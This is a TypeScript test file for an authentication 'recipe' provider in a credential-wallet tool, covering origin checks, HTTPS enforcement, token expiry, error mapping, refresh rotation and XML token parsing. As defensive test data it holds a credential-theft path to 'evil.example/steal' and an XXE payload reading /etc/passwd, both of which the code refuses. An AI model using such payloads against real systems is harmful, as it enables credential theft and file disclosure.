import assert from 'node:assert/strict';
import { test } from 'node:test';
import { absoluteTime } from '../../app/auth/recipes/expiry';
import { parseRecipe } from '../../app/auth/recipes/recipe-parse';
import { recipeProvider } from '../../app/auth/recipes/recipe-provider';
import { WalletError } from '../../app/errors';
import type { AccountRecord } from '../../app/model';
import type { ProviderContext } from '../../app/providers/provider';
import { scriptedHttp, type Reply } from '../helpers/scripted-http';

const now = Date.parse('2026-01-01T12:00:00Z');

function recipe(login: string, extra = ''): string {
  return (
    `name: t\ntitle: T\noptions: [{ key: authUrl, label: Auth URL }]\nlogin:\n${login}\ntoken: { path: /t, ` +
    `expires_in: /ttl, lifetime: 60 }\nuse: { header: "X-Auth: {{token}}" }\n${extra}`
  );
}

function run(
  text: string,
  reply: Reply | ((index: number) => Reply),
  account: Partial<AccountRecord> = {},
  trusted = false,
) {
  const http = scriptedHttp(
    (_request, index) => (typeof reply === 'function' ? reply(index) : reply),
    () => now,
  );
  const record: AccountRecord = {
    id: 'i',
    name: 'n',
    provider: 't',
    url: 'https://api.example/base',
    username: 'alice',
    options: {},
    createdAt: '',
    ...account,
  };
  const context: ProviderContext = { account: record, password: 'pw-SECRET', http: http.transport, now: () => now };
  const provider = recipeProvider(parseRecipe(text), { trusted, source: 'installed' });
  return { provider, context, requests: http.requests };
}

const ok: Reply = { status: 200, body: { t: 'tok', ttl: 300 } };

test('relative paths go under the account URL (with its prefix)', async () => {
  const { provider, context, requests } = run(recipe('  path: /auth\n  auth: basic'), ok);
  const tokens = await provider.login(context);
  assert.equal(requests[0]?.url.toString(), 'https://api.example/base/auth');
  assert.equal(tokens.expiresAt, now + 300_000);
  assert.equal(provider.meta.usage, 'header');
  assert.deepEqual(provider.meta.tokenHeader, { name: 'X-Auth', prefix: '', suffix: '' });
});

test('a recipe never sends credentials to another origin unless the account allows that origin', async () => {
  const other = recipe('  path: https://evil.example/steal\n  auth: basic');
  const refused = run(other, ok);
  await assert.rejects(
    refused.provider.login(refused.context),
    (error: unknown) =>
      error instanceof WalletError &&
      error.kind === 'usage' &&
      /--allow-origin https:\/\/evil\.example/.test(error.message),
  );
  assert.equal(refused.requests.length, 0, 'nothing was sent');
  const allowed = run(other, ok, { allowOrigins: ['https://evil.example'] });
  await allowed.provider.login(allowed.context);
  assert.equal(allowed.requests.length, 1);
  // A URL the user gave as an account option is the user's own choice.
  const option = run(recipe('  path: "{{authUrl}}"\n  auth: basic'), ok, {
    options: { authUrl: 'https://login.example/token' },
  });
  await option.provider.login(option.context);
  assert.equal(option.requests[0]?.url.toString(), 'https://login.example/token');
});

test('never plain http to a non-loopback host without --allow-http', async () => {
  const plain = run(recipe('  path: /auth\n  auth: basic'), ok, { url: 'http://api.example' });
  await assert.rejects(
    plain.provider.login(plain.context),
    /plain http to api\.example; use https, or pass --allow-http/,
  );
  assert.equal(plain.requests.length, 0);
  const allowed = run(recipe('  path: /auth\n  auth: basic'), ok, { url: 'http://api.example', allowHttp: true });
  await allowed.provider.login(allowed.context);
  const loopback = run(recipe('  path: /auth\n  auth: basic'), ok, { url: 'http://127.0.0.1:9' });
  await loopback.provider.login(loopback.context);
});

test('absolute expiry: epoch seconds, epoch ms, ISO with and without zone, on the server clock', async () => {
  assert.equal(absoluteTime(1_767_272_400), 1_767_272_400_000);
  assert.equal(absoluteTime('1767272400000'), 1_767_272_400_000);
  assert.equal(absoluteTime('2026-01-01T13:00:00.000000Z'), Date.parse('2026-01-01T13:00:00Z'));
  assert.equal(absoluteTime('2026-01-01T13:00:00'), Date.parse('2026-01-01T13:00:00Z'));
  assert.equal(absoluteTime('tomorrow'), undefined);
  const text = recipe('  path: /auth\n  auth: basic').replace('expires_in: /ttl, lifetime: 60', 'expires_at: /exp');
  // The server's clock is 10 minutes behind ours; its token lives one hour.
  const serverNow = now - 600_000;
  const { provider, context } = run(text, {
    status: 200,
    headers: { Date: new Date(serverNow).toUTCString() },
    body: { t: 'tok', exp: new Date(serverNow + 3_600_000).toISOString() },
  });
  assert.equal((await provider.login(context)).expiresAt, now + 3_600_000);
  const expired = run(text, { status: 200, body: { t: 'tok', exp: '2020-01-01T00:00:00Z' } });
  await assert.rejects(expired.provider.login(expired.context), /already expired \(check both clocks\)/);
});

test('the fixed lifetime is the fallback when the answer has no expires_in', async () => {
  const { provider, context } = run(recipe('  path: /auth'), { status: 200, body: { t: 'tok' } });
  assert.equal((await provider.login(context)).expiresAt, now + 60_000);
});

test("errors: the recipe's messages by status and text, rate limits with their reset, rejected statuses", async () => {
  const extra =
    'errors:\n  rejected: [401, 400]\n  messages:\n    - { status: 403, match: Locked, message: "account ' +
    '{{username}} is locked", kind: credentials }\n';
  const text = recipe('  path: /auth\n  auth: basic', extra);
  const locked = run(text, { status: 403, body: { message: 'Account LOCKED' } });
  await assert.rejects(
    locked.provider.login(locked.context),
    (error: unknown) =>
      error instanceof WalletError && error.kind === 'credentials' && error.message === 'account alice is locked',
  );
  const other403 = run(text, { status: 403, body: { message: 'nope' } });
  await assert.rejects(
    other403.provider.login(other403.context),
    (error: unknown) => error instanceof WalletError && error.kind === 'unexpected',
  );
  const bad = run(text, { status: 400, body: { error: 'x' } });
  await assert.rejects(
    bad.provider.login(bad.context),
    (error: unknown) => error instanceof WalletError && error.kind === 'credentials',
  );
  const limited = run(text, {
    status: 429,
    headers: { 'X-RateLimit-Remaining': '0', 'X-RateLimit-Reset': String(now / 1000 + 30) },
    body: {},
  });
  await assert.rejects(
    limited.provider.login(limited.context),
    (error: unknown) =>
      error instanceof WalletError && error.details.rateLimited === true && error.details.retryAt === now + 30_000,
  );
  const html = run(text, { status: 200, headers: { 'Content-Type': 'text/html' }, body: '<html>sso</html>' });
  await assert.rejects(html.provider.login(html.context), /HTML page instead of JSON/);
  const exhausted = run(text, {
    status: 200,
    headers: { 'X-RateLimit-Remaining': '0', 'X-RateLimit-Reset': String(now / 1000 + 60) },
    body: { t: 'tok', ttl: 300 },
  });
  assert.equal((await exhausted.provider.login(exhausted.context)).throttledUntil, now + 60_000);
});

test('refresh: rotation keeps the newest refresh token, a missing one the current; none means a login', async () => {
  const text =
    `name: r\ntitle: R\nlogin: { path: /login, auth: basic }\ntoken: { path: /t, expires_in: /ttl, ` +
    `refresh_token: /r }\nrefresh:\n  path: /refresh\n  body: { json: { refresh_token: "{{refresh_token}}" } ` +
    `}\nuse: { header: "Authorization: Bearer {{token}}" }\n`;
  const replies: Reply[] = [
    { status: 200, body: { t: 'a2', ttl: 60, r: 'r2' } },
    { status: 200, body: { t: 'a3', ttl: 60 } },
    { status: 200, body: { t: 'a4', ttl: 60, r: 'r4' } },
  ];
  const { provider, context, requests } = run(text, (index) => replies[index] ?? ok);
  const second = await provider.renew?.(context, { accessToken: 'a1', refreshToken: 'r1', issuedAt: 0, expiresAt: 1 });
  assert.equal(second?.refreshToken, 'r2');
  assert.equal(JSON.parse(requests[0]?.body ?? '{}').refresh_token, 'r1');
  const third = await provider.renew?.(context, { accessToken: 'a2', refreshToken: 'r2', issuedAt: 0, expiresAt: 1 });
  assert.equal(third?.refreshToken, 'r2', 'kept when the answer has none');
  await provider.renew?.(context, { accessToken: 'a3', issuedAt: 0, expiresAt: 1 });
  assert.equal(requests[2]?.url.pathname, '/base/login', 'no refresh token: a login');
  assert.equal(provider.meta.renewal, 'refresh');
});

test('XML tokens: DOCTYPE refused, element path followed', async () => {
  const text =
    `name: x\ntitle: X\nlogin: { path: /login, auth: basic }\ntoken: { from: xml, path: r/data/tok, ` +
    `lifetime: 600 }\nuse: { header: "Authorization: Bearer {{token}}" }\n`;
  const good = run(text, { status: 200, body: '<r><data><tok>abc</tok></data></r>' });
  assert.equal((await good.provider.login(good.context)).accessToken, 'abc');
  const evil = run(text, {
    status: 200,
    body: '<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r><data><tok>&x;</tok></data></r>',
  });
  await assert.rejects(evil.provider.login(evil.context), /DOCTYPE/);
});
